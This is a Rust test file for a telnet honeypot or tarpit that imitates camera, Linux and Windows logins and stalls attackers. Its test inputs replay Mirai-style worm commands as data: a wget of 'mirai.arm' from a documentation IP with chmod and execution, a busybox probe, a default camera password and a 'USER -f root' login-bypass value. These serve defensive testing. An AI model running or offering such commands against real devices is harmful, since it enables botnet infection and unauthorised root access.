//! Transcripts of `telnet_login`.

use proptest::prelude::*;
use tarpit_proto::{persona::Persona, rng::Seed};

use crate::stage::Stage;

/// A client in front of a camera, which has been greeted.
fn camera() -> Stage {
    let mut stage = played("ip-camera").open();
    stage.heard();
    stage
}

fn played(persona: &str) -> Stage {
    let mut stage = Stage::new("telnet_login");
    stage.profile.persona = Persona::named(persona, &Seed([7; 32])).expect("a persona");
    stage
}

#[test]
fn every_persona_shows_itself_at_once_and_asks_for_a_name() {
    for (persona, greeting) in [
        ("debian-12", r"\xff\xfd\x18\xff\xfd \xff\xfd#\xff\xfd\'\r\nweb08 login: "),
        ("ip-camera", r"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\nIPC-0707 login: "),
        ("ubuntu-22.04", r"\xff\xfd\x18\xff\xfd \xff\xfd#\xff\xfd\'\r\nweb08 login: "),
        (
            "windows-server-2019",
            r"\xff\xfd%\xff\xfb\x01\xff\xfb\x03\xff\xfd\'\xff\xfd\x1f\xff\xfd\x00\xff\xfb\x00Welcome to Microsoft Telnet Service \r\n\n\rlogin: ",
        ),
    ] {
        let mut stage = played(persona).open();
        assert_eq!((stage.heard().as_str(), stage.moments().len()), (greeting, 0), "{persona}");
        stage.pass_secs(86_400);
        assert_eq!(stage.heard(), "", "{persona}");
    }
}

#[test]
fn a_password_is_taken_and_never_judged() {
    let mut stage = camera();
    stage.says("root\r\n");
    assert_eq!(stage.heard(), r"root\r\nPassword: ");
    stage.says("secret\r\0").pass_secs(600);
    let text = stage.text();
    assert!(text.starts_with(r"\r\n\xff\xf1\xff\xf1"), "{text}");
    assert!(stage.bytes().len() < 160, "{}", stage.bytes().len());
    assert!(stage.gaps().iter().all(|gap| (7_200..=8_800).contains(gap)));
    assert_eq!(stage.news[..2], ["validated true root", "learnt user root"]);
    assert_eq!(stage.learnt, ["user root", "secret secret, method password"]);
    stage.says("ls\r\n").pass_secs(30 * 86_400);
    assert!(stage.text().replace(r"\xff\xf1", "") == r"\r\n");
    assert_eq!(stage.closed, None);
}

#[test]
fn guessers_that_offer_line_mode_may_use_it() {
    // What hydra, ncrack and medusa answer to the greeting, and then the name.
    for said in [
        &b"\xFF\xFB\x22\xFF\xFC\x01\xFF\xFC\x1F\xFF\xFE\x01\xFF\xFE\x03"[..],
        b"\xFF\xFC\x01\xFF\xFC\x1F\xFF\xFE\x01\xFF\xFE\x03\xFF\xFB\x22",
    ] {
        let mut stage = camera();
        stage.says(said);
        assert_eq!(stage.heard(), r#"\xff\xfd\""#);
        stage.says("root\r\0");
        // Told not to echo, we do not.
        assert_eq!(stage.heard(), r"\r\nPassword: ");
    }
}

#[test]
fn a_terminal_is_asked_for_its_type_and_a_user_taken_from_the_environment() {
    let mut stage = played("debian-12").open();
    stage.heard();
    stage.says(b"\xFF\xFB\x18");
    let send = r"\xff\xfa\x18\x01\xff\xf0";
    assert_eq!(stage.heard(), format!(r"{send}\xff\xfb\x03\xff\xfb\x01\xff\xfd\x1f"));
    stage.says(b"\xFF\xFB\x18\xFF\xFD\x01\xFF\xFD\x03\xFF\xFC\x1F");
    assert_eq!(stage.heard(), "");
    stage.says(b"\xFF\xFA\x18\0XTERM\xFF\xF0");
    stage.says(b"\xFF\xFB\x27\xFF\xFA\x27\0\0USER\x01-f root\xFF\xF0");
    assert_eq!(stage.heard(), r"\xff\xfa\'\x01\xff\xf0");
    assert_eq!(stage.news[1..], ["learnt telnet_terminal XTERM", "learnt user -f root"]);
    stage.says("a");
    assert_eq!(stage.heard(), "a");
}

#[test]
fn no_negotiation_goes_on_for_ever() {
    let mut stage = camera();
    // Refused again and again, but not without end.
    stage.says([&b"\xFF\xFB\xC8"[..]; 1_000].concat()).pass_secs(60);
    assert_eq!(stage.bytes().len(), 64 * 3);
    // What agrees with us is not answered at all, nor what refuses.
    let mut stage = camera();
    stage.says([&b"\xFF\xFD\x01\xFF\xFB\x1F\xFF\xFC\xC8\xFF\xFE\xC8"[..]; 50].concat());
    assert_eq!(stage.heard(), "");
}

#[test]
fn an_empty_login_name_is_asked_for_again_and_at_last_at_our_pace() {
    let mut stage = camera();
    stage.says("\r\nx");
    stage.heard();
    stage.says("\x7F\r\n".repeat(150));
    let at_once = stage.sent.len();
    assert!((10..=30).contains(&at_once), "{at_once}");
    stage.pass_secs(80);
    assert!((9..=12).contains(&(stage.sent.len() - at_once)), "{}", stage.sent.len());
}

#[test]
fn strangers_get_what_a_name_would_get_and_silence() {
    for said in ["GET / HTTP/1.0\r\n\r\n", "SSH-2.0-x\r\n", "EHLO x\r\n", "\x16\x03\x01"] {
        let mut stage = camera();
        stage.says(said).pass_secs(86_400);
        assert_eq!(stage.heard(), r"\r\nPassword: ", "{said}");
        assert!(!stage.news.iter().any(|news| news.starts_with("learnt")), "{:?}", stage.news);
    }
}

#[test]
fn without_poison_nothing_ever_looks_like_a_shell() {
    for persona in Persona::names() {
        let mut stage = played(persona).open();
        stage.says("root\r\nx\r\nenable\r\nshell\r\n").pass_secs(86_400);
        let bytes = stage.bytes();
        let shown = bytes.split(|byte| *byte == b'\n').skip(1).flatten();
        let prompts = shown.filter(|byte| b"$#>%/?".contains(byte)).count();
        assert_eq!(prompts, 0, "{persona}: {}", stage.text());
    }
}

/// A client that got a shell.
fn shell(persona: &str) -> Stage {
    let mut stage = played(persona);
    stage.profile.poison = true;
    let mut stage = stage.open();
    stage.says("root\r\nxc3511\r\n");
    stage.heard();
    stage.pass_secs(7);
    assert_eq!(stage.heard(), "", "the shell comes late");
    stage.pass_secs(2);
    stage.news.clear();
    stage
}

#[test]
fn with_poison_a_worm_gets_a_shell_that_answers_late_and_runs_nothing() {
    let mut stage = shell("ip-camera");
    assert_eq!(stage.heard(), "# ");
    stage.says("enable\r\nsystem\r\n").says("/bin/busybox MIRAI\r\n");
    assert_eq!(stage.heard(), r"enable\r\n");
    stage.pass_secs(9);
    assert_eq!(stage.heard(), r"# system\r\n");
    stage.pass_secs(18);
    assert_eq!(stage.heard(), r"# /bin/busybox MIRAI\r\nMIRAI: applet not found\r\n# ");
    stage.says("frob \u{FF}\r\n").pass_secs(9);
    let commands: Vec<_> = stage.news.iter().map(String::as_str).collect();
    let wanted = ["enable", "system", "/bin/busybox MIRAI", r"frob \xc3\xbf"];
    assert_eq!(commands, wanted.map(|line| format!("learnt command {line}")));
    assert_eq!(stage.closed, None);
}

#[test]
fn what_is_typed_while_the_shell_thinks_stalls_and_no_line_is_read_from_its_middle() {
    let long = ["enable\r\necho ", &"v".repeat(5_000), "\r\nps\r\n"].concat();
    let mut stage = shell("ip-camera");
    stage.says(&long);
    assert!(!stage.listens(), "its sending stalls");
    stage.pass_secs(60);
    assert!(stage.listens());
    let [enable, echo, ps] = &stage.news[..] else { panic!("{:?}", stage.news) };
    assert_eq!((enable.as_str(), ps.as_str()), ("learnt command enable", "learnt command ps"));
    assert!(echo.ends_with("(of 5005)"), "{echo}");
    let mut stage = shell("ip-camera");
    stage.says(&long).half_closes().pass_secs(60);
    assert_eq!((stage.news.len(), stage.closed), (1, None), "{:?}", stage.news);
}

#[test]
fn what_a_worm_fetches_never_comes_and_the_rest_of_its_plan_is_heard() {
    let mut stage = shell("debian-12");
    assert_eq!(stage.heard(), "$ ");
    stage.says("cd /tmp; wget http://192.0.2.9/mirai.arm; chmod 777 mirai.arm\r\n").pass_secs(60);
    let text = stage.heard().replace(r"\xff\xf1", "");
    assert_eq!(text, r"\r\nConnecting to 192.0.2.9 (192.0.2.9:80)\r\n");
    stage.says("./mirai.arm\r\n".repeat(1_000)).pass_secs(30 * 86_400);
    assert!((200..=260).contains(&stage.news.len()), "{}", stage.news.len());
    assert_eq!(stage.heard().replace(r"\xff\xf1", ""), "");
    assert_eq!(stage.closed, None);
}

#[test]
fn a_windows_shell_knows_nothing_of_this() {
    let mut stage = shell("windows-server-2019");
    assert_eq!(stage.heard(), r"C:\\>");
    stage.says("sh\r\n").pass_secs(9);
    assert!(stage.heard().contains(r"\'sh\' is not recognized"));
}

#[test]
fn a_hand_over_amid_a_line_loses_nothing() {
    let mut stage = camera();
    stage.says("ro").hand_over().says("ot\r").hand_over().says("\nse").hand_over().says("t\r\n");
    assert_eq!(stage.learnt, ["user root", "secret set, method password"]);
    let mut stage = shell("ip-camera");
    stage.heard();
    stage.says("id\r\n").pass_secs(3).hand_over().pass_secs(9);
    assert!(stage.heard().ends_with(r"uid=0(root) gid=0(root)\r\n# "));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn a_worm_is_read_the_same_however_its_bytes_are_cut(
        said in prop::collection::vec(
            prop_oneof![
                Just(&b"\xFF\xFB\x18"[..]),
                Just(&b"\xFF\xFA\x18\0XTERM\xFF\xF0"[..]),
                Just(&b"root"[..]),
                Just(&b"\r\n"[..]),
                Just(&b"\r\0"[..]),
                Just(&b"\x7F"[..]),
                Just(&b"echo -e '\\x41'; wget http://192.0.2.9/x"[..]),
                Just(&b"\xFF"[..]),
            ],
            0..30,
        ),
        cuts in prop::collection::vec(1_usize..20, 0..20),
        poison: bool,
    ) {
        let said = [&b"\xFF\xFC\x01"[..], &said.concat()].concat();
        let heard = |cuts: &[usize]| {
            let mut stage = played("ip-camera");
            stage.profile.poison = poison;
            let mut stage = stage.open();
            let mut rest = &said[..];
            for &cut in cuts {
                let (part, left) = rest.split_at(cut.min(rest.len()));
                rest = left;
                if !part.is_empty() {
                    stage.says(part);
                }
            }
            if !rest.is_empty() {
                stage.says(rest);
            }
            stage.pass_secs(600);
            // The first news shows as many bytes as there were when they were recognised.
            (stage.text(), stage.news.split_off(1), stage.session.heard())
        };
        prop_assert_eq!(heard(&[]), heard(&cuts));
    }
}

#[test]
fn a_name_may_begin_with_a_letter_of_any_alphabet() {
    // UTF-8, Latin-1 and KOI8, typed where nothing was negotiated.
    for name in ["\u{fc}nal".as_bytes(), b"\xFCnal", b"\xFB\xC1\xDB\xC1", b"\xF0\xC5\xD4\xD2"] {
        for pattern in ["telnet_login", "auto"] {
            for at_once in [true, false] {
                let mut stage = Stage::new(pattern);
                stage.conn.server.set_port(23);
                let mut stage = stage.open();
                stage.pass_secs(2).heard();
                let said = [name, b"\r\nsecret\r\n"].concat();
                for portion in said.chunks(if at_once { 100 } else { 1 }) {
                    stage.says(portion).pass_secs(1);
                }
                let (text, name) = (stage.heard(), name.escape_ascii());
                assert!(text.contains("Password: "), "{pattern} {name}: {text}");
                assert!(stage.learnt.contains(&format!("user {name}")), "{:?}", stage.learnt);
                assert!(stage.learnt.contains(&"secret secret, method password".to_owned()));
                assert!(stage.news[0] != format!("validated false {name}"), "{:?}", stage.news);
            }
        }
    }
    // Of a binary protocol it is none.
    for said in [&b"\x80\x2E\x01\x03\x01\0"[..], b"\xAC\xED\0\x05", b"\x81\0\0\x44"] {
        let mut stage = Stage::new("telnet_login").open();
        stage.says(said);
        assert!(stage.news[0].starts_with("validated false"), "{:?}", stage.news);
    }
}

#[test]
fn names_in_other_alphabets_are_told_by_every_text_protocol() {
    for (pattern, said, wanted) in [
        ("ftp_hold", &b"USER \xC3\xBCnal\r\nPASS \xFC\r\n"[..], r"user \xc3\xbcnal"),
        ("auto", b"USER \xFB\xC1\r\n", r"user \xfb\xc1"),
        ("smtp_hold", b"EHLO gerg\r\nMAIL FROM:<\xC3\xBC@x>\r\n", r"smtp_mail_from \xc3\xbc@x"),
        (
            "http_hold",
            b"GET /\xC3\xBC\xFF HTTP/1.1\r\n\r\n",
            r"http_request GET /\xc3\xbc\xff HTTP/1.1",
        ),
        ("auto", b"GET /\xFB HTTP/1.1\r\n\r\n", r"http_request GET /\xfb HTTP/1.1"),
    ] {
        let mut stage = Stage::new(pattern).open();
        stage.says(said).pass_secs(200);
        assert!(stage.learnt.contains(&wanted.to_owned()), "{pattern}: {:?}", stage.learnt);
    }
}

/// A client with a terminal in front of a machine.
fn terminal(persona: &str) -> Stage {
    let mut stage = played(persona).open();
    stage.says(b"\xFF\xFB\x18\xFF\xFD\x01\xFF\xFD\x03").heard();
    stage
}

#[test]
fn keys_and_signals_have_the_answers_of_the_real_login() {
    // What Debian 12's telnetd and login answered; `^` stands for a key with Ctrl.
    const NAME: &str = "\r\nweb08 login: ";
    for (persona, said, wanted) in [
        ("debian-12", "\r\n", "\r\nPassword: "),
        ("ubuntu-22.04", "\r\n", &["\r\n", NAME].concat()[..]),
        ("debian-12", "\x03", "^C"),
        ("debian-12", "ab\x03", "ab^C"),
        ("debian-12", "\x04", "\r\n"),
        ("debian-12", "a\x1Bb\r\n", "a^[b\r\nPassword: "),
        ("debian-12", "root\r\n\x03", "root\r\nPassword: "),
        (
            "debian-12",
            "root\r\n\x04",
            &["root\r\nPassword: \r\n\r\nLogin incorrect", NAME].concat(),
        ),
        ("ip-camera", "\x03", "^C"),
        // It has no terminal.
        ("windows-server-2019", "\x03\x04", ""),
    ] {
        let mut stage = terminal(persona);
        stage.says(said).pass(core::time::Duration::from_secs(2));
        // The hold begins where the real one ends the connection.
        let bytes = stage.bytes();
        let bytes = bytes.strip_suffix(b"\xFF\xF1").unwrap_or(&bytes);
        assert_eq!(String::from_utf8_lossy(bytes), wanted, "{persona} {said:?}");
        stage.pass_secs(86_400);
        assert_eq!(stage.closed, None, "{persona} {said:?}");
    }
    for (persona, said, wanted) in [
        ("debian-12", &b"\xFF\xF6"[..], r"\r\n[Yes]\r\n"),
        ("debian-12", b"\xFF\xFD\x06", r"\xff\xfb\x06"),
        ("debian-12", b"\xFF\xF4", "^C"),
        ("ip-camera", b"\xFF\xF6", ""),
        ("ip-camera", b"\xFF\xFD\x06", r"\xff\xfc\x06"),
    ] {
        let mut stage = terminal(persona);
        stage.says(said);
        assert_eq!(stage.heard(), wanted, "{persona} {}", said.escape_ascii());
    }
}

#[test]
fn who_leaves_by_a_key_is_held_as_behind_a_password() {
    for said in ["\x03", "\x04", "root\r\n\x03"] {
        let mut stage = terminal("debian-12");
        stage.says(said).heard();
        stage.says("ls\r\n").pass_secs(600);
        let text = stage.heard();
        assert!(text.len() > 500 && text.replace(r"\xff\xf1", "").is_empty(), "{said:?}: {text}");
    }
}

#[test]
fn no_signal_is_answered_for_ever() {
    let mut stage = terminal("debian-12");
    stage.says([&b"\xFF\xF6"[..]; 1_000].concat()).pass_secs(60);
    assert!(stage.bytes().len() <= 64 * 9, "{}", stage.bytes().len());
    let mut stage = terminal("debian-12");
    stage.says("root\r\n\x04".repeat(200));
    let at_once = stage.sent.len();
    assert!((10..=30).contains(&at_once), "{at_once}");
}
